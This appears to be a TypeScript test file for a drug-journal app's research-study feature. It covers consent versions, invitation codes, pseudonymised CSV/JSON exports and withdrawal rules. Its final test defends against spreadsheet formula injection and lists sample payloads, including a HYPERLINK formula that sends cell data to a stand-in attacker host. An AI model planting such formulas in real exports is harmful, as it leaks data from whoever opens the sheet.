import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { Temporal } from "temporal-polyfill";
import { TitrateError } from "../../core/errors.ts";
import type { Profile } from "../../core/schemas/journal.ts";
import type { ConsentTerms, StudyInput } from "../../core/schemas/study.ts";
import { deleteEntry, editEntry } from "../journal/edit.ts";
import { logCheckIn, logDose, logOtherSubstance, logScreening } from "../journal/log.ts";
import { saveProfile } from "../repos/profile.ts";
import { createUser } from "../repos/users.ts";
import type { Store } from "../store.ts";
import { dumpStore, openTestStore, testBackend } from "../test-store.ts";
import { createStudy, publishConsent, studyView } from "./coordinate.ts";
import { studyDashboard } from "./dashboard.ts";
import { type ExportFormat, studyCodebookFile, studyExportFile } from "./export.ts";
import { createInvitations, listInvitations, revokeInvitation } from "./invitations.ts";
import { acceptConsent, joinStudy, participation, previewInvitation } from "./participate.ts";
import { withdrawFromStudy } from "./withdraw.ts";

const profile = (timeZone = "Europe/London"): Profile => ({
  weightKg: 70,
  units: "metric",
  timeZone,
  conditions: [],
  country: "GB",
  emergencyNumber: null,
  helpline: null,
});

// London is on UTC until 29 March 2026.
const T0 = Temporal.Instant.from("2026-03-02T08:00:00Z");
const at = (days: number, hours = 0) => T0.add({ hours: 24 * days + hours });

const consentV1: ConsentTerms = {
  text: "You share your doses, check-in ratings and questionnaires. If you withdraw, what you recorded until then is kept.",
  collects: ["doses", "checkIns", "questionnaires"],
  onWithdrawal: "keep",
  dates: "shifted",
};

const studyInput: StudyInput = {
  title: "Ketamine microdosing and mood",
  description: "Twelve weeks of a weekly ketamine microdose, with daily check-ins.",
  protocol: {
    substance: "ketamine",
    target: { amount: 7, unit: "mg" },
    protocol: { kind: "every-n-days", intervalDays: 7 },
    cycle: null,
  },
  questionnaires: [{ instrument: "phq9", everyDays: 14 }],
  checkInItems: ["mood", "anxiety"],
  startDate: "2026-03-01",
  endDate: "2026-05-31",
  timeZone: "Europe/London",
  consent: consentV1,
};

async function csv(
  store: Store,
  coordinator: string,
  studyId: string,
  table: Parameters<typeof studyExportFile>[3],
  now = at(20),
  format: ExportFormat = "csv",
): Promise<string> {
  const file = await studyExportFile(store.db, coordinator, studyId, table, format, now);
  let text = "";
  for await (const chunk of file.chunks) text += chunk;
  return text;
}

async function code(error: Promise<unknown>): Promise<string> {
  try {
    await error;
  } catch (caught) {
    if (caught instanceof TitrateError) return caught.code;
    throw caught;
  }
  return "no error";
}

describe(`study mode in the store (${testBackend})`, () => {
  let store: Store;
  let lee: string;
  let ana: string;
  let ben: string;
  let cat: string;
  let studyId: string;
  let codes: string[];

  before(async () => {
    store = await openTestStore();
    const made = async (username: string, zone?: string) => {
      const user = await createUser(store.db, {
        username,
        role: username === "lee" ? "owner" : "member",
        createdAt: T0.toString(),
      });
      await saveProfile(store.db, user.id, profile(zone), T0.toString());
      return user.id;
    };
    lee = await made("lee");
    ana = await made("ana");
    ben = await made("ben", "America/New_York");
    cat = await made("cat");
    studyId = (await createStudy(store, lee, studyInput, T0)).id;
    codes = (await createInvitations(store, lee, studyId, { count: 4 }, T0)).map((i) => i.code);
  });
  after(() => store?.close());

  test("a study starts with consent version 1, and its view carries no secret", async () => {
    const view = await studyView(store.db, lee, studyId, T0);
    assert.equal(view.consent.version, 1);
    assert.deepEqual(
      view.consentVersions.map((v) => v.version),
      [1],
    );
    assert.equal(view.invitations.unused, 4);
    assert.equal(view.state, "running");
    assert.ok(!JSON.stringify(view).includes("secret"));
    assert.equal(await code(studyView(store.db, ana, studyId, T0)), "NOT_FOUND");
  });

  test("an invitation shows the study and its consent without being used up", async () => {
    const preview = await previewInvitation(store.db, (codes[0] ?? "").toLowerCase(), T0);
    assert.equal(preview.study.title, studyInput.title);
    assert.equal(preview.consent.version, 1);
    assert.deepEqual(
      preview.shares.map((s) => s.category),
      ["doses", "checkIns", "questionnaires"],
    );
    assert.equal((await listInvitations(store.db, lee, studyId, T0))[0]?.status, "unused");
    assert.equal(
      await code(previewInvitation(store.db, "AAAA-BBBB-CCCC", T0)),
      "STUDY_INVITATION_INVALID",
    );
  });

  test("joining records the consent with its version and time; the code is then used up", async () => {
    assert.equal(
      await code(joinStudy(store, lee, { code: codes[0] ?? "", consentVersion: 1 }, T0)),
      "STUDY_OWN_STUDY",
    );
    assert.equal(
      await code(joinStudy(store, ana, { code: codes[0] ?? "", consentVersion: 2 }, T0)),
      "STUDY_CONSENT_OUTDATED",
    );
    const joined = await joinStudy(store, ana, { code: codes[0] ?? "", consentVersion: 1 }, T0);
    assert.equal(joined.status, "active");
    assert.equal(joined.consent.version, 1);
    assert.equal(joined.consent.acceptedAt, "2026-03-02T08:00:00Z");
    assert.deepEqual(joined.history, [{ version: 1, acceptedAt: "2026-03-02T08:00:00Z" }]);
    assert.equal(joined.firstDay, "2026-03-02");
    assert.equal(
      await code(joinStudy(store, ben, { code: codes[0] ?? "", consentVersion: 1 }, T0)),
      "STUDY_INVITATION_INVALID",
    );
    assert.equal(
      await code(joinStudy(store, ana, { code: codes[1] ?? "", consentVersion: 1 }, T0)),
      "STUDY_ALREADY_JOINED",
    );
    await joinStudy(store, ben, { code: codes[1] ?? "", consentVersion: 1 }, at(0, 2));
    const invitations = await listInvitations(store.db, lee, studyId, T0);
    assert.deepEqual(invitations.map((i) => i.status).sort(), ["unused", "unused", "used", "used"]);
    assert.ok(!JSON.stringify(invitations).includes(ana), "a used code does not say by whom");
  });

  test("a revoked or expired code cannot be used", async () => {
    const [revoked] = await createInvitations(store, lee, studyId, { count: 1 }, T0);
    assert.ok(revoked);
    assert.equal((await revokeInvitation(store, lee, revoked.id, T0)).status, "revoked");
    assert.equal(await code(revokeInvitation(store, ana, revoked.id, T0)), "NOT_FOUND");
    assert.equal(
      await code(joinStudy(store, cat, { code: revoked.code, consentVersion: 1 }, T0)),
      "STUDY_INVITATION_INVALID",
    );
    const [short] = await createInvitations(
      store,
      lee,
      studyId,
      { count: 1, expiresInDays: 1 },
      T0,
    );
    assert.equal(
      await code(joinStudy(store, cat, { code: short?.code ?? "", consentVersion: 1 }, at(2))),
      "STUDY_INVITATION_INVALID",
    );
  });

  test("the export holds pseudonyms, study days and consented columns only", async () => {
    // ana: entries before joining (not in the study), during, and a note (not consented).
    await logCheckIn(store, ana, { at: at(-1), mood: 9, anxiety: 1, focus: 7 }, at(-1));
    await logCheckIn(
      store,
      ana,
      { at: at(0, 13), mood: 6, anxiety: 3, energy: 5, note: "secret diary" },
      at(0, 13),
    );
    await logCheckIn(store, ana, { at: at(1, 13), mood: 7, anxiety: 2 }, at(1, 13));
    await logDose(
      store,
      ana,
      {
        substance: "ketamine",
        measured: { kind: "amount", amount: 7, unit: "mg" },
        route: "nasal",
        at: at(1, 1),
        note: "felt calm",
      },
      at(1, 1),
    );
    await logScreening(
      store,
      ana,
      { instrument: "phq9", answers: [1, 1, 0, 0, 1, 0, 0, 0, 0], at: at(1, 2) },
      at(1, 2),
    );
    await logScreening(
      store,
      ana,
      { instrument: "gad7", answers: [1, 1, 0, 0, 1, 0, 0], at: at(1, 2) },
      at(1, 2),
    );
    await logOtherSubstance(store, ana, { name: "two glasses of wine", at: at(2, 10) }, at(2, 10));
    await logCheckIn(store, ben, { at: at(1, 20), mood: 4, anxiety: 6 }, at(1, 20));

    const checkIns = await csv(store, lee, studyId, "check_ins");
    const lines = checkIns.trim().split("\r\n");
    assert.equal(lines[0], "participant,day,time,mood,anxiety");
    assert.equal(lines.length, 4, checkIns);
    assert.ok(!checkIns.includes("secret diary"), "no note without consent to notes");
    assert.ok(!checkIns.includes(",9,"), "nothing from before joining");
    assert.ok(!/2026|energy|focus/u.test(checkIns), "no dates, no items outside the study's");
    const anaRows = lines.filter((l) => l.endsWith(",6,3") || l.endsWith(",7,2"));
    assert.deepEqual(
      anaRows.map((l) => l.split(",").slice(1, 3)),
      [
        ["0", "21:00"],
        ["1", "21:00"],
      ],
    );
    const pseudonym = anaRows[0]?.split(",")[0] ?? "";
    assert.match(pseudonym, /^P-[0-9A-Z]{10}$/u);
    // ben is in New York: 04:00 UTC on 4 March is 23:00 there, on his day 1.
    assert.ok(
      lines.some((l) => l.endsWith(",1,23:00,4,6")),
      checkIns,
    );

    const questionnaires = await csv(store, lee, studyId, "questionnaires");
    assert.ok(questionnaires.includes("phq9") && !questionnaires.includes("gad7"), questionnaires);
    const doses = await csv(store, lee, studyId, "doses");
    assert.equal(
      doses.split("\r\n")[0],
      "participant,day,time,substance,amount,unit,route,is_estimate,planned",
    );
    assert.ok(!doses.includes("felt calm"));
    assert.equal(
      await code(csv(store, lee, studyId, "other_substances")),
      "STUDY_TABLE_NOT_COLLECTED",
    );
    assert.equal(await code(csv(store, ana, studyId, "check_ins")), "NOT_FOUND");

    const participants = await csv(store, lee, studyId, "participants");
    assert.equal(
      participants.split("\r\n")[0],
      "participant,consent_version,status,days_in_study,withdrawn_day,dates,shares_notes",
    );
    const dump = await dumpStore(store);
    for (const secret of [ana, ben, "ana", "ben", "Europe/London", "America/New_York"]) {
      for (const text of [participants, checkIns, questionnaires, doses]) {
        assert.ok(!text.includes(secret), `the export names ${secret}`);
      }
    }
    assert.ok(dump.includes(ana));
    const json = JSON.parse(await csv(store, lee, studyId, "check_ins", at(20), "json"));
    assert.equal(json.length, 3);
    assert.deepEqual(Object.keys(json[0]), ["participant", "day", "time", "mood", "anxiety"]);
  });

  test("the same participant has the same pseudonym in every export, and another in another study", async () => {
    const first = await csv(store, lee, studyId, "participants");
    const again = await csv(store, lee, studyId, "participants", at(21));
    const names = (text: string) =>
      text
        .trim()
        .split("\r\n")
        .slice(1)
        .map((l) => l.split(",")[0]);
    assert.deepEqual(names(first), names(again));
    const other = await createStudy(store, lee, { ...studyInput, title: "Another study" }, T0);
    const [invite] = await createInvitations(store, lee, other.id, { count: 1 }, T0);
    // cat joins the other study; her pseudonym there shares nothing with ana's or ben's here.
    await joinStudy(store, cat, { code: invite?.code ?? "", consentVersion: 1 }, T0);
    const otherNames = names(await csv(store, lee, other.id, "participants"));
    assert.equal(otherNames.length, 1);
    assert.ok(!names(first).includes(otherNames[0]));
    assert.equal(
      await code(joinStudy(store, cat, { code: codes[2] ?? "", consentVersion: 1 }, T0)),
      "STUDY_ALREADY_ENROLLED",
      "one study at a time",
    );
  });

  test("a new consent version is offered, and covers notes only once accepted", async () => {
    await publishConsent(
      store,
      lee,
      studyId,
      {
        ...consentV1,
        text: `${consentV1.text} Your notes are shared too.`,
        collects: [...consentV1.collects, "notes"],
        dates: "exact",
      },
      at(3),
    );
    assert.equal(
      await code(
        publishConsent(
          store,
          lee,
          studyId,
          {
            ...consentV1,
            text: `${consentV1.text} Your notes are shared too.`,
            collects: [...consentV1.collects, "notes"],
            dates: "exact",
          },
          at(3),
        ),
      ),
      "STUDY_CONSENT_UNCHANGED",
    );
    const before = await participation(store.db, ana, at(3));
    assert.equal(before?.newerConsent?.version, 2);
    let checkIns = await csv(store, lee, studyId, "check_ins");
    assert.equal(
      checkIns.split("\r\n")[0],
      "participant,day,time,date,at,mood,anxiety,effects,after_effects,note",
    );
    assert.ok(!checkIns.includes("secret diary"), "version 1 does not cover notes");
    assert.ok(!checkIns.includes("2026-03-02"), "nor exact dates");
    assert.equal(await code(acceptConsent(store, ana, 1, at(3))), "STUDY_CONSENT_OUTDATED");
    const accepted = await acceptConsent(store, ana, 2, at(3));
    assert.equal(accepted.consent.version, 2);
    assert.deepEqual(
      accepted.history.map((h) => h.version),
      [1, 2],
    );
    assert.equal(accepted.newerConsent, null);
    checkIns = await csv(store, lee, studyId, "check_ins");
    assert.ok(checkIns.includes("secret diary"), "accepted version 2 covers notes");
    assert.ok(checkIns.includes("2026-03-02,2026-03-02T21:00:00Z"), checkIns);
    const benLine = checkIns.split("\r\n").find((l) => l.includes(",4,6"));
    assert.ok(benLine && !benLine.includes("2026"), "ben is still on version 1: no dates");
    const codebook = await studyCodebookFile(store.db, lee, studyId, "csv");
    let text = "";
    for await (const chunk of codebook.chunks) text += chunk;
    assert.ok(text.includes("check_ins,note,text,the participant's consent covers notes"));
  });

  test("the dashboard counts only what each consent covers, under pseudonyms", async () => {
    const dashboard = await studyDashboard(store.db, lee, studyId, at(20));
    assert.equal(dashboard.participants.active, 2);
    assert.equal(dashboard.progress.length, 2);
    const byCheckIns = dashboard.progress.map((p) => p.checkIns).sort();
    assert.deepEqual(byCheckIns, [1, 2]);
    assert.equal(dashboard.weeks[0]?.checkIns, 3);
    assert.deepEqual(dashboard.weeks[0]?.items.mood, { n: 3, mean: 5.67, sd: 1.53 });
    assert.equal(dashboard.questionnaires[0]?.weeks[0]?.total.n, 1);
    const text = JSON.stringify(dashboard);
    for (const secret of [ana, ben, "secret diary", "ana"]) assert.ok(!text.includes(secret));
    assert.equal(await code(studyDashboard(store.db, ben, studyId, at(20))), "NOT_FOUND");
  });

  test("withdrawing with keep: data until then stays, nothing after reaches the study", async () => {
    const before = await csv(store, lee, studyId, "check_ins", at(30));
    const left = await withdrawFromStudy(store, ben, at(5));
    assert.equal(left.status, "withdrawn");
    assert.deepEqual(left.withdrawal, {
      at: "2026-03-07T08:00:00Z",
      choice: "keep",
      deleted: null,
    });
    // Logged after withdrawing, for a day before it: never reaches the study.
    await logCheckIn(store, ben, { at: at(4), mood: 1, anxiety: 9 }, at(6));
    await logCheckIn(store, ben, { at: at(7), mood: 2, anxiety: 8 }, at(7));
    const after = await csv(store, lee, studyId, "check_ins", at(30));
    assert.equal(after, before);
    assert.equal(await code(withdrawFromStudy(store, ben, at(6))), "STUDY_WITHDRAWN");
    const participants = await csv(store, lee, studyId, "participants", at(30));
    assert.ok(participants.includes(",withdrawn,"), participants);
  });

  test("withdrawing with delete: the study's entries go, the rest of the journal stays", async () => {
    await publishConsent(
      store,
      lee,
      studyId,
      {
        ...consentV1,
        text: `${consentV1.text} Changed: if you withdraw, your study data are deleted.`,
        onWithdrawal: "delete",
      },
      at(8),
    );
    await acceptConsent(store, ana, 3, at(8));
    const exported = await csv(store, lee, studyId, "participants", at(9));
    const pseudonym = exported
      .split("\r\n")
      .find((l) => l.includes(",3,active,"))
      ?.split(",")[0];
    assert.ok(pseudonym);
    const left = await withdrawFromStudy(store, ana, at(9));
    assert.equal(left.withdrawal?.choice, "delete");
    // Versions 2 and 3 together covered doses, check-ins, questionnaires and notes.
    assert.deepEqual(left.withdrawal?.deleted, { check_ins: 2, doses: 1, screenings: 1 });
    const remaining = await store.db
      .selectFrom("check_ins")
      .select("at")
      .where("user_id", "=", ana)
      .execute();
    assert.deepEqual(
      remaining.map((r) => r.at),
      ["2026-03-01T08:00:00Z"],
      "the entry before joining stays",
    );
    const gad = await store.db
      .selectFrom("screenings")
      .select("instrument")
      .where("user_id", "=", ana)
      .execute();
    assert.deepEqual(
      gad.map((r) => r.instrument),
      ["gad7"],
      "a questionnaire the study does not use stays",
    );
    assert.equal(
      (
        await store.db
          .selectFrom("other_substances")
          .select("id")
          .where("user_id", "=", ana)
          .execute()
      ).length,
      1,
      "a category the consent never covered stays",
    );
    for (const table of ["participants", "check_ins", "doses", "questionnaires"] as const) {
      const text = await csv(store, lee, studyId, table, at(30));
      assert.ok(!text.includes(pseudonym), `${table} still names the withdrawn participant`);
    }
    const dashboard = await studyDashboard(store.db, lee, studyId, at(30));
    assert.equal(dashboard.participants.withdrawnDeleted, 1);
    assert.ok(!JSON.stringify(dashboard).includes(pseudonym));
  });
});

describe(`which entries reach a study (${testBackend})`, () => {
  let store: Store;
  after(() => store?.close());

  test("recorded after consent and dated from the consent's day: nothing else", async () => {
    store = await openTestStore();
    const made = async (username: string) => {
      const user = await createUser(store.db, {
        username,
        role: "member",
        createdAt: T0.toString(),
      });
      await saveProfile(store.db, user.id, profile(), T0.toString());
      return user.id;
    };
    const lee = await made("lee");
    const ana = await made("ana");
    const study = await createStudy(store, lee, studyInput, T0);
    const [invite] = await createInvitations(store, lee, study.id, { count: 1 }, T0);
    // Before joining (08:00 on day 0): recorded then, so never shared.
    await logCheckIn(store, ana, { at: at(0, -2), mood: 1, anxiety: 1 }, at(0, -2));
    await joinStudy(store, ana, { code: invite?.code ?? "", consentVersion: 1 }, T0);
    // After joining: this morning's check-in, logged late (shared: day 0), and yesterday's
    // (not shared: before day 0), and one logged in the minute of joining, as the web app
    // writes times to the minute (shared).
    await logCheckIn(store, ana, { at: at(0, -1), mood: 2, anxiety: 2 }, at(0, 1));
    await logCheckIn(store, ana, { at: at(-1, 4), mood: 3, anxiety: 3 }, at(0, 1));
    await logCheckIn(
      store,
      ana,
      { at: "2026-03-02T08:00:00Z", mood: 4, anxiety: 4 },
      T0.add({ seconds: 30 }),
    );
    const text = await csv(store, lee, study.id, "check_ins");
    assert.deepEqual(
      text
        .trim()
        .split("\r\n")
        .slice(1)
        .map((l) => l.split(",").slice(1).join(",")),
      ["0,07:00,2,2", "0,08:00,4,4"],
    );
    const dashboard = await studyDashboard(store.db, lee, study.id, at(1));
    assert.deepEqual(
      dashboard.progress.map((p) => p.checkIns),
      [2],
      "the dashboard agrees",
    );
    const left = await withdrawFromStudy(store, ana, at(1));
    assert.equal(left.withdrawal?.deleted, null, "keep: nothing deleted");
  });
});

describe(`withdrawing with delete after the study ended (${testBackend})`, () => {
  let store: Store;
  after(() => store?.close());

  test("deletes what reached the study, not what was logged after its end", async () => {
    store = await openTestStore();
    const made = async (username: string) => {
      const user = await createUser(store.db, {
        username,
        role: "member",
        createdAt: T0.toString(),
      });
      await saveProfile(store.db, user.id, profile(), T0.toString());
      return user.id;
    };
    const lee = await made("lee");
    const ana = await made("ana");
    const study = await createStudy(
      store,
      lee,
      {
        ...studyInput,
        endDate: "2026-03-10",
        consent: { ...consentV1, onWithdrawal: "delete" },
      },
      T0,
    );
    const [invite] = await createInvitations(store, lee, study.id, { count: 1 }, T0);
    await joinStudy(store, ana, { code: invite?.code ?? "", consentVersion: 1 }, T0);
    // Day 1: in the study. Day 12: after its end (10 March), the participant's alone.
    await logCheckIn(store, ana, { at: at(1), mood: 5, anxiety: 5 }, at(1));
    await logCheckIn(store, ana, { at: at(12), mood: 6, anxiety: 4 }, at(12));
    const left = await withdrawFromStudy(store, ana, at(15));
    assert.deepEqual(left.withdrawal?.deleted, { check_ins: 1 });
    const remaining = await store.db
      .selectFrom("check_ins")
      .select("at")
      .where("user_id", "=", ana)
      .execute();
    assert.deepEqual(
      remaining.map((r) => r.at),
      [at(12).toString()],
      "the entry after the study's end stays",
    );
  });
});

/** lee, ana (both without a journal yet), and lee's study of check-ins and notes with one code. */
async function coordinatorAndParticipant(store: Store) {
  const made = async (username: string) => {
    const user = await createUser(store.db, {
      username,
      role: "member",
      createdAt: T0.toString(),
    });
    await saveProfile(store.db, user.id, profile(), T0.toString());
    return user.id;
  };
  const lee = await made("lee");
  const ana = await made("ana");
  const study = await createStudy(
    store,
    lee,
    { ...studyInput, consent: { ...consentV1, collects: ["checkIns", "notes"] } },
    T0,
  );
  const [invite] = await createInvitations(store, lee, study.id, { count: 1 }, T0);
  return { lee, ana, study, invite };
}

describe(`what a study keeps after a withdrawal stays as it was (${testBackend})`, () => {
  let store: Store;
  after(() => store?.close());

  test("an edit after withdrawing never reaches the study; the entry can be deleted", async () => {
    store = await openTestStore();
    const { lee, ana, study, invite } = await coordinatorAndParticipant(store);
    // Before joining, and the day before: never the study's.
    const own = await logCheckIn(store, ana, { at: at(-1), mood: 4, anxiety: 4 }, at(-1));
    await joinStudy(store, ana, { code: invite?.code ?? "", consentVersion: 1 }, T0);
    const kept = await logCheckIn(
      store,
      ana,
      { at: at(1), mood: 5, anxiety: 5, note: "fine" },
      at(1),
    );
    // Logged during the study for a day before it: the participant's alone.
    const late = await logCheckIn(store, ana, { at: at(-2), mood: 6, anxiety: 3 }, at(1));
    await withdrawFromStudy(store, ana, at(2));
    const before = await csv(store, lee, study.id, "check_ins", at(20));
    assert.ok(before.includes(",5,5,,,fine"), before);

    assert.equal(
      await code(editEntry(store, ana, kept.record.id, { mood: 1, note: "written later" }, at(3))),
      "STUDY_ENTRY_KEPT",
    );
    assert.equal(
      await code(editEntry(store, ana, late.record.id, { at: at(1, 2).toString() }, at(3))),
      "STUDY_ENTRY_KEPT",
      "nor can another entry be moved into what the study keeps",
    );
    assert.equal(await csv(store, lee, study.id, "check_ins", at(20)), before);
    // Entries the study never had stay editable.
    await editEntry(store, ana, own.record.id, { mood: 2 }, at(3));
    await editEntry(store, ana, late.record.id, { mood: 7 }, at(3));
    assert.equal(await csv(store, lee, study.id, "check_ins", at(20)), before);
    // The journal stays the participant's: a kept entry can be deleted.
    await deleteEntry(store, ana, kept.record.id);
    assert.ok(!(await csv(store, lee, study.id, "check_ins", at(20))).includes("fine"));
  });
});

describe(`a study's CSV never hands a spreadsheet a participant's formula (${testBackend})`, () => {
  let store: Store;
  after(() => store?.close());

  test("text cells that start like a formula get a ' first; JSON keeps them as written", async () => {
    store = await openTestStore();
    const { lee, ana, study, invite } = await coordinatorAndParticipant(store);
    await joinStudy(store, ana, { code: invite?.code ?? "", consentVersion: 1 }, T0);
    const notes = [
      '=HYPERLINK("https://evil.example/?"&A1,"click")',
      "+1+1",
      "-2+3",
      "@SUM(A1:A9)",
      "\t=1+1",
      "fine = good",
    ];
    for (const [i, note] of notes.entries()) {
      await logCheckIn(store, ana, { at: at(1, i), mood: 5, anxiety: 5, note }, at(2));
    }
    const text = await csv(store, lee, study.id, "check_ins", at(20));
    const cells = text
      .split("\r\n")
      .slice(1, -1)
      .map((line) => line.split(",").at(-1));
    assert.deepEqual(cells.slice(1), ["'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\t=1+1", "fine = good"]);
    assert.ok(text.includes(`"'=HYPERLINK(""https://evil.example/?""&A1`), text);
    assert.ok(!/(^|,)[=+\-@]/mu.test(text.split("\r\n").slice(1).join("\r\n")), text);
    assert.ok(text.includes(",5,5,"), "numbers are not touched");
    const json = await csv(store, lee, study.id, "check_ins", at(20), "json");
    for (const note of notes) assert.ok(json.includes(JSON.stringify(note)), note);
  });
});
